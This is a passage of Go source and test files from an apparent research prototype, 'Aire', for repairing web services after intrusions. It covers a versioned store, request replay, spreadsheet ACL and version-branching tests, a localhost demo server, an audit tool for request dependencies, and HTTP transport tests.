					t.Fatalf("%s: IDsAt(%q, %d) = %v, linear reference %v", stage, model, ts, got, want)
				}
				if got, want := s.ScanHashAt(model, ts), s.ScanHashAtLinear(model, ts); got != want {
					t.Fatalf("%s: ScanHashAt(%q, %d) = %#x, linear reference %#x", stage, model, ts, got, want)
				}
				for _, req := range []string{"r-none", "r2", "r5"} {
					if got, want := s.ScanHashAtExcluding(model, ts, req), s.ScanHashAtExcludingLinear(model, ts, req); got != want {
						t.Fatalf("%s: ScanHashAtExcluding(%q, %d, %q) = %#x, linear reference %#x", stage, model, ts, req, got, want)
					}
				}
			}
		}
	}

	mustPut := func(k Key, val string, ts int64, req string) {
		t.Helper()
		if err := s.Put(k, fields(val), ts, req); err != nil {
			t.Fatal(err)
		}
	}
	mustPut(Key{"kv", "a"}, "1", 10, "r1")
	mustPut(Key{"kv", "b"}, "1", 20, "r2")
	mustPut(Key{"other", "z"}, "9", 25, "r2")
	check("initial", 5, 10, 20, 25, 100)

	mustPut(Key{"kv", "b"}, "2", 20, "r2") // coalesce: same ts, same request
	mustPut(Key{"kv", "a"}, "3", 30, "r3")
	check("coalesce+overwrite", 10, 20, 30, 100)

	if err := s.Delete(Key{"kv", "a"}, 40, "r4"); err != nil {
		t.Fatal(err)
	}
	check("tombstone", 30, 40, 100)

	mustPut(Key{"kv", "c"}, "5", 50, "r5")
	s.Rollback(Key{"kv", "c"}, 45) // removes c entirely
	s.Rollback(Key{"kv", "a"}, 35) // removes the tombstone, a live again
	check("rollback", 30, 40, 50, 100)

	if err := s.PutImmutable(Key{"kv", "v1"}, fields("frozen"), 60, "r6"); err != nil {
		t.Fatal(err)
	}
	check("immutable", 55, 60, 100)

	s.GC(25)
	check("gc", 30, 40, 60, 100)

	fresh := NewStore()
	if err := fresh.Restore(s.Dump()); err != nil {
		t.Fatal(err)
	}
	for _, ts := range []int64{30, 40, 60, 100} {
		if got, want := fresh.ScanHashAt("kv", ts), s.ScanHashAt("kv", ts); got != want {
			t.Fatalf("restore: ScanHashAt(kv, %d) = %#x, original %#x", ts, got, want)
		}
		if got, want := fresh.IDsAt("kv", ts), s.IDsAt("kv", ts); !reflect.DeepEqual(got, want) {
			t.Fatalf("restore: IDsAt(kv, %d) = %v, original %v", ts, got, want)
		}
	}
	s = fresh
	check("restored", 30, 40, 60, 100)
}

// TestScanHashCurrentFastPath pins the O(1) present-time fast path to the
// walked computation.
func TestScanHashCurrentFastPath(t *testing.T) {
	s := NewStore()
	for i := 0; i < 50; i++ {
		if err := s.Put(Key{"kv", fmt.Sprintf("k%02d", i)}, fields(fmt.Sprint(i)), int64(i+1)*10, fmt.Sprintf("r%d", i)); err != nil {
			t.Fatal(err)
		}
	}
	if err := s.Delete(Key{"kv", "k07"}, 600, "r-del"); err != nil {
		t.Fatal(err)
	}
	// ts beyond lastTS answers from the maintained fingerprint; it must
	// equal both the historical walk at the same ts and the linear
	// reference.
	atNow := s.ScanHashAt("kv", 1<<40)
	if got := s.ScanHashAtLinear("kv", 1<<40); got != atNow {
		t.Fatalf("fast path %#x != linear %#x", atNow, got)
	}
	// ts == lastTS exactly also sees every version.
	if got := s.ScanHashAt("kv", 600); got != atNow {
		t.Fatalf("ScanHashAt at lastTS %#x != fast path %#x", got, atNow)
	}
}

// TestIndexBytesAccounting: the store's index memory estimate tracks the
// per-model member lists — positive once members exist, growing with new
// members, flat for new versions of existing members (versions are
// VersionBytes' ledger, not the index's), and shrinking when GC removes a
// model's last versions.
func TestIndexBytesAccounting(t *testing.T) {
	s := NewStore()
	if got := s.IndexBytes(); got != 0 {
		t.Fatalf("empty store IndexBytes = %d, want 0", got)
	}
	for i := 0; i < 10; i++ {
		if err := s.Put(Key{"m", fmt.Sprintf("id%d", i)}, fields("v"), int64(i+1), "w"); err != nil {
			t.Fatal(err)
		}
	}
	base := s.IndexBytes()
	if base <= 0 {
		t.Fatalf("IndexBytes = %d after 10 members", base)
	}
	// A new version of an existing member adds no index memory.
	if err := s.Put(Key{"m", "id0"}, fields("v2"), 50, "w"); err != nil {
		t.Fatal(err)
	}
	if got := s.IndexBytes(); got != base {
		t.Fatalf("IndexBytes changed on re-put of a member: %d -> %d", base, got)
	}
	// A new member in a new model grows it.
	if err := s.Put(Key{"other", "x"}, fields("v"), 60, "w"); err != nil {
		t.Fatal(err)
	}
	if got := s.IndexBytes(); got <= base {
		t.Fatalf("IndexBytes did not grow with a new model+member: %d -> %d", base, got)
	}
}
