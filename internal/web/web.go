// Package web is the request-execution substrate of Aire's prototype: the
// moral equivalent of the Django request-processing layer the paper modified
// (§6).
//
// A Service bundles a router, a versioned store, a repair log, a logical
// clock, and ID generation. An Exec runs one request through the router —
// either in Normal mode (live traffic) or Replay mode (local repair
// re-executing a past request). Both modes funnel every interposition point
// through the same code: model access (tracked via orm.Tx), outgoing HTTP
// calls (delegated to an OutboundFunc installed by the caller), external
// side effects (recorded for post-hoc comparison), and nondeterminism
// (recorded on first execution, replayed thereafter, so re-execution is
// deterministic and repair is stable, §3.3).
package web

import (
	"fmt"
	"sync"
	"time"

	"aire/internal/idgen"
	"aire/internal/orm"
	"aire/internal/repairlog"
	"aire/internal/vclock"
	"aire/internal/vdb"
	"aire/internal/wire"
)

// Handler processes one request.
type Handler func(c *Ctx) wire.Response

// Router maps method+path to handlers. Paths are matched exactly;
// applications pass parameters in form values, as the paper's apps do.
type Router struct {
	mu     sync.RWMutex
	routes map[string]Handler
}

// NewRouter returns an empty router.
func NewRouter() *Router {
	return &Router{routes: make(map[string]Handler)}
}

// Handle registers a handler for method+path.
func (r *Router) Handle(method, path string, h Handler) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.routes[method+" "+path] = h
}

// Lookup finds the handler for method+path.
func (r *Router) Lookup(method, path string) (Handler, bool) {
	r.mu.RLock()
	defer r.mu.RUnlock()
	h, ok := r.routes[method+" "+path]
	return h, ok
}

// Service is one Aire-enabled web service's runtime state.
type Service struct {
	// Name is the service's identity on the transport.
	Name string
	// Clock is the service's logical timeline (§3.1: services do not share
	// a global clock).
	Clock *vclock.Clock
	// IDs mints request/response/token identifiers.
	IDs *idgen.Gen
	// Store is the versioned database.
	Store *vdb.Store
	// Log is the repair log.
	Log *repairlog.Log
	// Schema declares the application's models.
	Schema *orm.Schema
	// Router dispatches requests to application handlers.
	Router *Router

	// TimeSource supplies the application-visible wall clock; it is
	// recorded as nondeterminism on first execution. Defaults to Unix
	// seconds.
	TimeSource func() int64
	// RandSource supplies application-visible randomness, recorded the
	// same way.
	RandSource func() int64

	// Mu serializes request execution and repair: like the paper's
	// prototype, a service does not run normal execution concurrently with
	// repair (§9).
	Mu sync.Mutex

	// Outbox accumulates performed external effects (e.g. sent emails), in
	// order. Repair cannot undo these; it compensates instead (§7.1).
	outboxMu sync.Mutex
	outbox   []repairlog.Effect
}

// NewService constructs a service with fresh substrate state.
func NewService(name string) *Service {
	var seed int64 = 1
	s := &Service{
		Name:   name,
		Clock:  &vclock.Clock{},
		IDs:    idgen.New(name),
		Store:  vdb.NewStore(),
		Log:    repairlog.New(true),
		Schema: orm.NewSchema(),
		Router: NewRouter(),
		TimeSource: func() int64 {
			return time.Now().Unix()
		},
	}
	s.RandSource = func() int64 {
		// Deterministic default PRNG (xorshift) so tests are stable; apps
		// needing real entropy can replace RandSource.
		seed ^= seed << 13
		seed ^= seed >> 7
		seed ^= seed << 17
		if seed < 0 {
			return -seed
		}
		return seed
	}
	return s
}

// PerformEffect appends an external effect to the service outbox.
func (s *Service) PerformEffect(e repairlog.Effect) {
	s.outboxMu.Lock()
	defer s.outboxMu.Unlock()
	s.outbox = append(s.outbox, e)
}

// Outbox returns a copy of all performed external effects.
func (s *Service) Outbox() []repairlog.Effect {
	s.outboxMu.Lock()
	defer s.outboxMu.Unlock()
	return append([]repairlog.Effect(nil), s.outbox...)
}

// Mode selects how an Exec runs.
type Mode int

const (
	// Normal executes live traffic: nondeterminism is sampled fresh and
	// outgoing calls hit the network.
	Normal Mode = iota
	// Replay re-executes a past request during local repair: recorded
	// nondeterminism is consumed and outgoing calls are diffed against the
	// log (§3.2).
	Replay
)

// OutboundFunc handles one outgoing call made by a handler. It returns the
// response the handler observes plus the call record to log. seq is the
// call's position within the request.
type OutboundFunc func(seq int, target string, req wire.Request) (wire.Response, repairlog.Call)

// Exec runs one request against a service.
type Exec struct {
	Svc *Service
	// Rec is the record being produced (Normal/fresh) or re-produced
	// (Replay). Exec overwrites its Resp, Reads, Scans, Writes, Calls,
	// Nondet, and Effects fields; the caller commits the record to the log.
	Rec *Record
	// Mode selects Normal or Replay behavior for nondeterminism.
	Mode Mode
	// Gen is the repair generation used to derive fresh versioned-object
	// IDs (§5.2); 0 on original execution.
	Gen int
	// Outbound handles outgoing calls; must be non-nil if the app calls out.
	Outbound OutboundFunc
	// Bare disables all Aire interposition (dependency tracking, nondeterminism
	// recording); used only by the no-Aire baseline of the Table 4
	// overhead experiments.
	Bare bool

	// prior holds the nondeterminism recorded by the previous execution.
	prior     []repairlog.Nondet
	nondetIdx int
	objSeq    int
	callSeq   int
	effectSeq int
	deps      orm.Deps
	calls     []repairlog.Call
	nondet    []repairlog.Nondet
	effects   []repairlog.Effect
}

// Record is an alias for the repair log record type, re-exported for
// convenience of Exec callers.
type Record = repairlog.Record

// Run executes the request and fills in the record. The caller must hold
// Svc.Mu.
func (e *Exec) Run() wire.Response {
	e.prior = e.Rec.Nondet
	e.deps = orm.Deps{}
	e.calls = nil
	e.nondet = nil
	e.effects = nil
	e.nondetIdx, e.objSeq, e.callSeq, e.effectSeq = 0, 0, 0, 0

	ctx := &Ctx{exec: e, Req: e.Rec.Req}
	ctx.DB = &orm.Tx{
		Store:  e.Svc.Store,
		Schema: e.Svc.Schema,
		At:     e.Rec.TS,
		ReqID:  e.Rec.ID,
		Deps:   &e.deps,
	}
	if e.Bare {
		ctx.DB.Deps = nil
	}

	resp := e.dispatch(ctx)

	e.Rec.Resp = resp
	e.Rec.Reads = e.deps.Reads
	e.Rec.Scans = e.deps.Scans
	e.Rec.Writes = e.deps.Writes
	e.Rec.Calls = e.calls
	e.Rec.Nondet = e.nondet
	e.Rec.Effects = e.effects
	return resp
}

func (e *Exec) dispatch(ctx *Ctx) (resp wire.Response) {
	h, ok := e.Svc.Router.Lookup(ctx.Req.Method, ctx.Req.Path)
	if !ok {
		return wire.NewResponse(404, fmt.Sprintf("no route %s %s", ctx.Req.Method, ctx.Req.Path))
	}
	defer func() {
		if p := recover(); p != nil {
			resp = wire.NewResponse(500, fmt.Sprintf("handler panic: %v", p))
		}
	}()
	return h(ctx)
}

// next returns the next value of the named nondeterminism source: the
// recorded value when replaying in lockstep, a fresh one otherwise. Either
// way the value is re-recorded so future repairs replay this execution.
func (e *Exec) next(kind string, fresh func() int64) int64 {
	if e.Bare {
		return fresh()
	}
	var v int64
	if e.Mode == Replay && e.nondetIdx < len(e.prior) && e.prior[e.nondetIdx].Kind == kind {
		v = e.prior[e.nondetIdx].Value
	} else {
		v = fresh()
	}
	e.nondetIdx++
	e.nondet = append(e.nondet, repairlog.Nondet{Kind: kind, Value: v})
	return v
}

// Ctx is the handler-visible request context.
type Ctx struct {
	exec *Exec
	// Req is the request being handled.
	Req wire.Request
	// DB is the request-scoped, dependency-tracked model transaction.
	DB *orm.Tx
}

// Form returns a request form value.
func (c *Ctx) Form(k string) string { return c.Req.Form[k] }

// Header returns a request header value.
func (c *Ctx) Header(k string) string { return c.Req.Header[k] }

// From returns the transport-authenticated name of the calling service
// ("" for external clients).
func (c *Ctx) From() string { return c.exec.Rec.From }

// ReqID returns the Aire request ID assigned to this request.
func (c *Ctx) ReqID() string { return c.exec.Rec.ID }

// TS returns the request's logical timestamp on the service timeline.
func (c *Ctx) TS() int64 { return c.exec.Rec.TS }

// Now returns the application-visible wall-clock time. The value is
// recorded and replayed across repairs.
func (c *Ctx) Now() int64 { return c.exec.next("now", c.exec.Svc.TimeSource) }

// Rand returns recorded-and-replayed randomness.
func (c *Ctx) Rand() int64 { return c.exec.next("rand", c.exec.Svc.RandSource) }

// NewID mints a deterministic object ID stable across re-executions of this
// request, so repaired state converges with the attack-free timeline.
func (c *Ctx) NewID() string {
	id := idgen.Derived(c.exec.Rec.ID, c.exec.objSeq)
	c.exec.objSeq++
	return id
}

// NewVersionID mints a deterministic object ID scoped to the current repair
// generation. Versioned APIs use it for immutable version objects: replaying
// put(x,c) must create a fresh version (v5) on the repaired branch rather
// than collide with the original immutable v3 (Figure 3).
func (c *Ctx) NewVersionID() string {
	base := c.exec.Rec.ID
	if c.exec.Gen > 0 {
		base = fmt.Sprintf("%s~%d", base, c.exec.Gen)
	}
	id := idgen.Derived(base, c.exec.objSeq)
	c.exec.objSeq++
	return id
}

// Call issues an outgoing HTTP call to another service. During normal
// operation it goes to the network (with Aire headers attached by the
// controller); during replay it is diffed against the logged calls (§3.2).
func (c *Ctx) Call(target string, req wire.Request) wire.Response {
	if c.exec.Outbound == nil {
		panic(fmt.Sprintf("web: service %s made outgoing call with no Outbound installed", c.exec.Svc.Name))
	}
	seq := c.exec.callSeq
	c.exec.callSeq++
	resp, call := c.exec.Outbound(seq, target, req)
	call.Seq = seq
	c.exec.calls = append(c.exec.calls, call)
	return resp
}

// Effect records an external side effect (an email, an SMS, a webhook to a
// non-Aire system). Effects are performed by the controller after the
// request commits; during repair they are compared against the original and
// compensated if they changed (§7.1).
func (c *Ctx) Effect(kind, payload string) {
	seq := c.exec.effectSeq
	c.exec.effectSeq++
	c.exec.effects = append(c.exec.effects, repairlog.Effect{Seq: seq, Kind: kind, Payload: payload})
}

// OK builds a 200 response with a string body.
func (c *Ctx) OK(body string) wire.Response { return wire.NewResponse(200, body) }

// Error builds an error response with the given status and message.
func (c *Ctx) Error(status int, msg string) wire.Response { return wire.NewResponse(status, msg) }
