package spreadsheet

import (
	"strings"
	"testing"

	"aire/internal/core"
	"aire/internal/transport"
	"aire/internal/warp"
	"aire/internal/wire"
)

const boot = "boot-token"

type sheetTB struct {
	bus  *transport.Bus
	ctrl *core.Controller
}

func newSheetTB(t *testing.T) *sheetTB {
	t.Helper()
	bus := transport.NewBus()
	ctrl := core.NewController(New("sheet", boot), bus, core.DefaultConfig())
	bus.Register("sheet", ctrl)
	tb := &sheetTB{bus: bus, ctrl: ctrl}
	tb.must(t, wire.NewRequest("POST", "/seed/token").WithForm("user", "u1", "value", "tok-u1").WithHeader("X-Bootstrap", boot))
	tb.must(t, wire.NewRequest("POST", "/seed/acl").WithForm("user", "u1", "perms", "rw").WithHeader("X-Bootstrap", boot))
	return tb
}

func (tb *sheetTB) call(req wire.Request) wire.Response {
	resp, err := tb.bus.Call("", "sheet", req)
	if err != nil {
		return wire.NewResponse(wire.StatusTimeout, err.Error())
	}
	return resp
}

func (tb *sheetTB) must(t *testing.T, req wire.Request) wire.Response {
	t.Helper()
	resp := tb.call(req)
	if !resp.OK() {
		t.Fatalf("%s %s: %d %s", req.Method, req.Path, resp.Status, resp.Body)
	}
	return resp
}

func (tb *sheetTB) set(t *testing.T, cell, val string) wire.Response {
	t.Helper()
	return tb.must(t, wire.NewRequest("POST", "/set").
		WithForm("cell", cell, "value", val, "user", "u1").
		WithHeader("X-User-Token", "tok-u1"))
}

func (tb *sheetTB) get(t *testing.T, cell string) string {
	t.Helper()
	return string(tb.must(t, wire.NewRequest("GET", "/get").WithForm("cell", cell)).Body)
}

func TestSetGetAndACL(t *testing.T) {
	tb := newSheetTB(t)
	tb.set(t, "x", "a")
	if got := tb.get(t, "x"); got != "a" {
		t.Fatalf("get = %q", got)
	}
	// Wrong token rejected.
	if resp := tb.call(wire.NewRequest("POST", "/set").
		WithForm("cell", "x", "value", "z", "user", "u1").
		WithHeader("X-User-Token", "bogus")); resp.Status != 403 {
		t.Fatalf("bad token accepted: %d", resp.Status)
	}
	// Unknown user rejected.
	if resp := tb.call(wire.NewRequest("POST", "/set").
		WithForm("cell", "x", "value", "z", "user", "eve").
		WithHeader("X-User-Token", "tok-u1")); resp.Status != 403 {
		t.Fatalf("unknown user accepted: %d", resp.Status)
	}
}

func TestVersionChain(t *testing.T) {
	tb := newSheetTB(t)
	tb.set(t, "x", "a")
	tb.set(t, "x", "b")
	tb.set(t, "x", "c")
	branch := string(tb.must(t, wire.NewRequest("GET", "/branch").WithForm("cell", "x")).Body)
	lines := strings.Split(strings.TrimSpace(branch), "\n")
	if len(lines) != 3 {
		t.Fatalf("branch = %q", branch)
	}
	if !strings.HasSuffix(lines[0], "=a") || !strings.HasSuffix(lines[2], "=c") {
		t.Fatalf("branch order wrong: %q", branch)
	}
}

// TestFigure3Branching reproduces Figure 3 exactly: the original history
// put(x,a) put(x,b) get(x) put(x,c) versions(x) put(x,d); repair deletes
// put(x,b). Afterwards the current branch is a→c'→d' with fresh version IDs,
// all original versions still exist (immutable history), and the repaired
// responses are get(x)→a and versions(x) ∋ {v1,v2,v3,v5} but ∌ {v4,v6}.
func TestFigure3Branching(t *testing.T) {
	tb := newSheetTB(t)
	putA := tb.set(t, "x", "a")
	putB := tb.set(t, "x", "b") // the unwanted write
	getX := tb.must(t, wire.NewRequest("GET", "/get").WithForm("cell", "x"))
	putC := tb.set(t, "x", "c")
	versX := tb.must(t, wire.NewRequest("GET", "/versions").WithForm("cell", "x"))
	putD := tb.set(t, "x", "d")

	v1, v2 := string(putA.Body), string(putB.Body)
	v3, v4 := string(putC.Body), string(putD.Body)
	if string(getX.Body) != "b" {
		t.Fatalf("original get = %q", getX.Body)
	}
	for _, v := range []string{v1, v2, v3} {
		if !strings.Contains(string(versX.Body), v+"=") {
			t.Fatalf("original versions missing %s: %q", v, versX.Body)
		}
	}

	// Repair: delete put(x,b).
	if _, err := tb.ctrl.ApplyLocal(warp.Action{Kind: warp.CancelReq, ReqID: putB.Header[wire.HdrRequestID]}); err != nil {
		t.Fatal(err)
	}

	// Current value is still d; the pointer moved to the repaired branch.
	if got := tb.get(t, "x"); got != "d" {
		t.Fatalf("post-repair get = %q, want d", got)
	}
	branch := string(tb.must(t, wire.NewRequest("GET", "/branch").WithForm("cell", "x")).Body)
	vals := []string{}
	var v5, v6 string
	for _, line := range strings.Split(strings.TrimSpace(branch), "\n") {
		id, val, _ := strings.Cut(line, "=")
		vals = append(vals, val)
		switch val {
		case "c":
			v5 = id
		case "d":
			v6 = id
		}
	}
	if strings.Join(vals, "") != "acd" {
		t.Fatalf("repaired branch = %v, want a,c,d", vals)
	}
	// The repaired branch uses fresh version IDs (v5 mirrors v3, v6
	// mirrors v4); version numbers are opaque, so only inequality matters.
	if v5 == v3 || v6 == v4 {
		t.Fatalf("repaired branch reuses original version ids: %s %s", v5, v6)
	}

	// History is preserved: every original version object still exists.
	now := tb.must(t, wire.NewRequest("GET", "/versions").WithForm("cell", "x"))
	for _, v := range []string{v1, v2, v3, v4, v5, v6} {
		if !strings.Contains(string(now.Body), v+"=") {
			t.Fatalf("version %s erased by repair (history must be preserved): %q", v, now.Body)
		}
	}

	// Repaired logged responses (what replace_response would carry):
	// get(x) → a.
	getRec, _ := tb.ctrl.Svc.Log.Get(getX.Header[wire.HdrRequestID])
	if string(getRec.Resp.Body) != "a" {
		t.Fatalf("repaired get response = %q, want a", getRec.Resp.Body)
	}
	// versions(x) → {v1, v2, v3, v5} and not {v4, v6} (the paper's exact
	// example: versions created before the call's logical time).
	versRec, _ := tb.ctrl.Svc.Log.Get(versX.Header[wire.HdrRequestID])
	body := string(versRec.Resp.Body)
	for _, want := range []string{v1, v2, v3, v5} {
		if !strings.Contains(body, want+"=") {
			t.Fatalf("repaired versions response missing %s: %q", want, body)
		}
	}
	for _, bad := range []string{v4, v6} {
		if strings.Contains(body, bad+"=") {
			t.Fatalf("repaired versions response leaks future version %s: %q", bad, body)
		}
	}
	// The current pointer in that response names the repaired branch (v5).
	if !strings.Contains(body, "current="+v5) {
		t.Fatalf("repaired versions response current pointer: %q", body)
	}
}

func TestWorldWritableConfig(t *testing.T) {
	tb := newSheetTB(t)
	// eve has a token but no ACL entry.
	tb.must(t, wire.NewRequest("POST", "/seed/token").WithForm("user", "eve", "value", "tok-eve").WithHeader("X-Bootstrap", boot))
	if resp := tb.call(wire.NewRequest("POST", "/set").
		WithForm("cell", "x", "value", "z", "user", "eve").
		WithHeader("X-User-Token", "tok-eve")); resp.Status != 403 {
		t.Fatal("eve should lack access")
	}
	tb.must(t, wire.NewRequest("POST", "/seed/config").
		WithForm("key", "world_writable", "value", "true").WithHeader("X-Bootstrap", boot))
	if resp := tb.call(wire.NewRequest("POST", "/set").
		WithForm("cell", "x", "value", "z", "user", "eve").
		WithHeader("X-User-Token", "tok-eve")); !resp.OK() {
		t.Fatalf("world-writable should allow eve: %d %s", resp.Status, resp.Body)
	}
}

func TestACLUpdateRequiresAdminPerm(t *testing.T) {
	tb := newSheetTB(t)
	// u1 has rw but not admin.
	if resp := tb.call(wire.NewRequest("POST", "/acl/update").
		WithForm("user", "eve", "perms", "rw", "as", "u1").
		WithHeader("X-User-Token", "tok-u1")); resp.Status != 403 {
		t.Fatalf("non-admin ACL update accepted: %d", resp.Status)
	}
	// Grant u1 admin, then it works.
	tb.must(t, wire.NewRequest("POST", "/seed/acl").
		WithForm("user", "u1", "perms", "rwa").WithHeader("X-Bootstrap", boot))
	tb.must(t, wire.NewRequest("POST", "/acl/update").
		WithForm("user", "eve", "perms", "r", "as", "u1").
		WithHeader("X-User-Token", "tok-u1"))
	if got := string(tb.must(t, wire.NewRequest("GET", "/acl").WithForm("user", "eve")).Body); got != "r" {
		t.Fatalf("acl = %q", got)
	}
	// Empty perms removes the entry.
	tb.must(t, wire.NewRequest("POST", "/acl/update").
		WithForm("user", "eve", "perms", "", "as", "u1").
		WithHeader("X-User-Token", "tok-u1"))
	if resp := tb.call(wire.NewRequest("GET", "/acl").WithForm("user", "eve")); resp.Status != 404 {
		t.Fatal("acl entry should be removed")
	}
}

func TestTokenExpiryGatesAuthorize(t *testing.T) {
	tb := newSheetTB(t)
	set := tb.set(t, "x", "a")
	tb.must(t, wire.NewRequest("POST", "/token/expire").WithForm("user", "u1").WithHeader("X-Bootstrap", boot))

	del := wire.NewRequest("POST", "/aire/repair").WithHeader(
		wire.HdrRepair, "delete",
		wire.HdrRequestID, set.Header[wire.HdrRequestID],
		"X-User-Token", "tok-u1",
	)
	if resp := tb.call(del); resp.Status != 403 {
		t.Fatalf("repair with expired token accepted: %d %s", resp.Status, resp.Body)
	}
	tb.must(t, wire.NewRequest("POST", "/token/refresh").WithForm("user", "u1").WithHeader("X-Bootstrap", boot))
	if resp := tb.call(del); !resp.OK() {
		t.Fatalf("repair with refreshed token rejected: %d %s", resp.Status, resp.Body)
	}
	if resp := tb.call(wire.NewRequest("GET", "/get").WithForm("cell", "x")); resp.Status != 404 {
		t.Fatal("cell should be gone after authorized repair")
	}
}
