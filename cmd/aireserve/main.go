// Command aireserve runs an Aire-enabled two-service testbed (a notes-like
// KV service mirrored to a feed service) over real HTTP sockets, so the
// repair protocol can be exercised with curl.
//
//	aireserve -a :8031 -b :8032
//
// Example session:
//
//	curl -XPOST 'http://localhost:8031/put?key=x&val=hello'   # mirrored to B
//	curl 'http://localhost:8032/get?key=x'
//	# repair: delete the put on A using the Aire-Request-Id header it returned
//	curl -XPOST http://localhost:8031/aire/repair \
//	     -H 'Aire-Repair: delete' -H "Aire-Request-Id: $ID"
//	curl 'http://localhost:8032/get?key=x'                    # gone within -pump-interval
//
// Outgoing repair queues are pumped continuously in the background (§3):
// each service's pump delivers to distinct peers concurrently, batches
// consecutive messages to the same peer, and retries unreachable peers with
// exponential backoff instead of parking their messages.
package main

import (
	"context"
	"flag"
	"fmt"
	"log"
	"net/http"
	"os"
	"os/signal"
	"syscall"
	"time"

	"aire"
	"aire/internal/harness"
	"aire/internal/transport"
)

func main() {
	addrA := flag.String("a", "127.0.0.1:8031", "listen address for service a")
	addrB := flag.String("b", "127.0.0.1:8032", "listen address for service b")
	workers := flag.Int("pump-workers", 4, "concurrent per-peer repair deliveries")
	batch := flag.Int("batch", 16, "max repair messages batched to one peer per pass")
	interval := flag.Duration("pump-interval", 100*time.Millisecond, "pacing of background pump passes")
	backoff := flag.Duration("backoff", 50*time.Millisecond, "base retry delay for unreachable peers (0 = park after max attempts)")
	backoffMax := flag.Duration("backoff-max", 5*time.Second, "cap on the exponential retry delay")
	flag.Parse()

	cfg := aire.DefaultConfig()
	cfg.PumpWorkers = *workers
	cfg.BatchSize = *batch
	cfg.PumpInterval = *interval
	if *backoff > 0 {
		cfg.Backoff = aire.Backoff{Base: *backoff, Max: *backoffMax, Factor: 2}
	}

	caller := &transport.HTTPCaller{BaseURLs: map[string]string{
		"a": "http://" + *addrA,
		"b": "http://" + *addrB,
	}}
	ctrlA := aire.NewServiceWithConfig(&harness.KVApp{ServiceName: "a", Mirror: "b"}, caller, cfg)
	ctrlB := aire.NewServiceWithConfig(&harness.KVApp{ServiceName: "b"}, caller, cfg)

	go func() {
		log.Fatal(http.ListenAndServe(*addrA, transport.NewHTTPHandler(ctrlA)))
	}()
	go func() {
		log.Fatal(http.ListenAndServe(*addrB, transport.NewHTTPHandler(ctrlB)))
	}()

	ctx, cancel := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer cancel()
	stopPumps, err := aire.StartPumps(ctx, ctrlA, ctrlB)
	if err != nil {
		log.Fatal(err)
	}
	defer stopPumps()

	fmt.Printf("aire: service a (mirrors to b) on http://%s\n", *addrA)
	fmt.Printf("aire: service b on http://%s\n", *addrB)
	fmt.Printf("aire: background repair pumps running (workers=%d batch=%d interval=%v backoff=%v)\n",
		*workers, *batch, *interval, *backoff)
	fmt.Println("aire: try POST /put?key=x&val=hello on a, then GET /get?key=x on b,")
	fmt.Println("aire: then POST /aire/repair with Aire-Repair: delete + Aire-Request-Id headers")
	<-ctx.Done()
	fmt.Println("aire: shutting down, draining repair pumps")
}
