// Command aireaudit inspects a persisted Aire service snapshot (written by
// aire/internal/persist) and answers the administrator questions of §2:
// what did a suspect request influence, and what could have influenced an
// observed corruption?
//
//	aireaudit -snapshot a.snap -blast <request-id>    # transitive effects
//	aireaudit -snapshot a.snap -trace <request-id>    # transitive causes
//	aireaudit -snapshot a.snap -dot > deps.dot        # Graphviz export
//	aireaudit -snapshot a.snap -list                  # timeline listing
package main

import (
	"flag"
	"fmt"
	"log"
	"os"

	"aire/internal/audit"
	"aire/internal/persist"
	"aire/internal/repairlog"
)

func main() {
	snapshot := flag.String("snapshot", "", "path to a persisted service snapshot (required)")
	blast := flag.String("blast", "", "print the blast radius of this request ID")
	trace := flag.String("trace", "", "print the ancestors of this request ID")
	dot := flag.Bool("dot", false, "emit the dependency graph as Graphviz DOT")
	list := flag.Bool("list", false, "list the request timeline")
	flag.Parse()

	if *snapshot == "" {
		flag.Usage()
		os.Exit(2)
	}
	f, err := os.Open(*snapshot)
	if err != nil {
		log.Fatal(err)
	}
	defer f.Close()
	snap, err := persist.Read(f)
	if err != nil {
		log.Fatal(err)
	}

	// Rebuild just the log; audit needs nothing else.
	lg := repairlog.New(false)
	for _, r := range snap.Records {
		if err := lg.Append(r); err != nil {
			log.Fatal(err)
		}
	}
	g := audit.Build(lg)
	fmt.Fprintf(os.Stderr, "aireaudit: service %q, %d requests, %d dependency edges\n",
		snap.Service, len(g.Requests), len(g.Edges))

	switch {
	case *blast != "":
		ids := g.Descendants(*blast)
		fmt.Printf("blast radius of %s: %d request(s)/call(s)\n", *blast, len(ids))
		for _, id := range ids {
			fmt.Println(" ", id)
		}
	case *trace != "":
		ids := g.Ancestors(*trace)
		fmt.Printf("ancestors of %s: %d request(s)\n", *trace, len(ids))
		for _, id := range ids {
			fmt.Println(" ", id)
		}
	case *dot:
		highlight := map[string]bool{}
		fmt.Print(g.DOT(highlight))
	case *list:
		for _, r := range snap.Records {
			status := ""
			if r.Skipped {
				status = " [cancelled]"
			}
			fmt.Printf("%-20s ts=%-12d %-5s %-30s -> %d%s\n", r.ID, r.TS, r.Req.Method, r.Req.Path, r.Resp.Status, status)
		}
	default:
		flag.Usage()
		os.Exit(2)
	}
}
