package transport

import (
	"net/http"
	"testing"
	"time"
)

// A nil Client gets the pooled default: tuned transport plus the default
// timeout (DefaultTransport's MaxIdleConnsPerHost=2 would serialize pump
// fan-out behind connection churn).
func TestHTTPClientDefaultIsPooled(t *testing.T) {
	c := &HTTPCaller{}
	cl := c.httpClient()
	if cl.Timeout != DefaultHTTPTimeout {
		t.Fatalf("Timeout = %v, want %v", cl.Timeout, DefaultHTTPTimeout)
	}
	tr, ok := cl.Transport.(*http.Transport)
	if !ok {
		t.Fatalf("Transport is %T, want *http.Transport", cl.Transport)
	}
	if tr.MaxIdleConnsPerHost != DefaultMaxIdleConnsPerHost {
		t.Fatalf("MaxIdleConnsPerHost = %d, want %d", tr.MaxIdleConnsPerHost, DefaultMaxIdleConnsPerHost)
	}
	if tr.MaxIdleConns != DefaultMaxIdleConns {
		t.Fatalf("MaxIdleConns = %d, want %d", tr.MaxIdleConns, DefaultMaxIdleConns)
	}
	if tr.IdleConnTimeout != DefaultIdleConnTimeout {
		t.Fatalf("IdleConnTimeout = %v, want %v", tr.IdleConnTimeout, DefaultIdleConnTimeout)
	}
	if c.httpClient() != cl {
		t.Fatal("effective client must be resolved exactly once")
	}
}

// A caller-supplied Client without Transport tuning composes with the
// pooling knobs and default timeout instead of dropping them (the old path
// used such a client verbatim: no pooling, no timeout).
func TestHTTPClientComposesWithSuppliedClient(t *testing.T) {
	supplied := &http.Client{}
	c := &HTTPCaller{Client: supplied, MaxIdleConnsPerHost: 7}
	cl := c.httpClient()
	if cl == supplied {
		t.Fatal("effective client must be a copy, not the caller's value")
	}
	if supplied.Timeout != 0 || supplied.Transport != nil {
